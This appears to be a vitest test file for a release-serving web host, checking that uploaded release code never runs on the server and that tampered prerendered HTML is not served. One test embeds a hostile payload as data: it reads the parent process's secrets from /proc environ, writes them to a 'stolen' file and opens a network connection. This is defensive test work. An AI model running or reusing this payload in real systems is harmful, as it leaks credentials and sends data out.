import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Releases } from '@askwell/web-host';
import { asBody, buildOf, releaseFolder, serveReleases, type ReleaseFolder } from './release-fixture.ts';

/** As the shell's build makes it, in short: it renders the frame of every path. */
const renderer = `process.once('message', ({ paths, slots }) => {
  for (const path of paths) {
    const content = slots.includes(path) ? 'slot' : 'frame';
    process.send({ path, content, html: content === 'slot' ? '<div data-slot="_R_0_"></div>' : '' });
  }
});`;

let folder: ReleaseFolder;
let releases: Releases;
let server: Awaited<ReturnType<typeof serveReleases>>;
beforeEach(async () => {
  folder = await releaseFolder();
  await writeFile(join(folder.shellDir, 'render.cjs'), renderer);
  releases = folder.open();
  await releases.release('mfe-builder', buildOf('1'));
  server = await serveReleases(folder, releases);
});
afterEach(async () => {
  server.stop();
  await folder.remove();
});

test('code in a release never runs on the server: it reads no secret, writes no file, opens no connection', async () => {
  const stolen = join(folder.folder, 'stolen');
  let connections = 0;
  const listener = createServer().on('connection', () => (connections += 1));
  await new Promise<void>((resolve) => void listener.listen(0, '127.0.0.1', resolve));
  const address = listener.address();
  const port = typeof address === 'object' ? address?.port : 0;
  const code = `
    const fs = process.getBuiltinModule('fs');
    fs.writeFileSync(${JSON.stringify(stolen)}, fs.readFileSync('/proc/' + process.ppid + '/environ'));
    process.getBuiltinModule('net').connect(${port}, '127.0.0.1').write('stolen');`;
  const token = await server.token('mfe-builder');
  // Everywhere where a build has code.
  expect(await server.post('/releases/mfe-builder', token, asBody(buildOf('2', { code })))).toMatchObject({
    status: 200,
  });
  expect(await (await server.get('/dashboard')).text()).toContain('<h1>The page /dashboard</h1>');
  // Where a release once brought code for the server.
  const old = buildOf('3', { code }).set('render.cjs', Buffer.from(code));
  expect(await server.post('/releases/mfe-builder', token, asBody(old))).toMatchObject({
    status: 409,
    message: 'render.cjs is no file that a build of mfe-builder makes.',
  });
  // And in the HTML itself.
  const html = `<h1>Hello</h1><script>${code}</script>`;
  expect(await server.post('/releases/mfe-builder', token, asBody(buildOf('4', { html })))).toMatchObject({
    status: 409,
  });
  expect(await server.live()).toBe('2');
  expect(existsSync(stolen)).toBe(false);
  expect(connections).toBe(0);
  await new Promise((resolve) => listener.close(resolve));
});

test('HTML that was changed on the disk after its release stands in no document', async () => {
  const page = join(releases.folderOf('mfe-builder', '1'), 'pages/0.html');
  await writeFile(page, '<h1>Changed by somebody</h1>');
  const restarted = await serveReleases(folder, releases);
  const text = await (await restarted.get('/dashboard')).text();
  restarted.stop();
  expect(text).not.toContain('Changed by somebody');
  expect(folder.warnings).toContain(`/dashboard is not prerendered: ${page} does not match its hash.`);
});
